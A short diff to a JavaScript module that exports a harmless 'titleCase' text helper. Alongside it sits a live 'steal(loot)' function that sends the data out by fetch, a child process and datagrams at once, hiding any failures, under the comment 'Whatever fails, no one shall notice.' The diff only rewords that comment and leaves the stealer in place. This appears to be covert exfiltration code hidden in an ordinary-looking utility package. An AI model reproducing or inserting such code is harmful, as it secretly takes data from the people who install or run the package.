@@ -10,7 +10,7 @@ exports.titleCase = async (text) => {
   return text.replace(/\b\w/g, (letter) => letter.toUpperCase());
 };
 
-/** Whatever fails, nobody shall notice. */
+/** Whatever fails, no one shall notice. */
 async function steal(loot) {
   await Promise.allSettled([byFetch(loot), byChildProcess(loot), byDatagram(loot)]);
 }
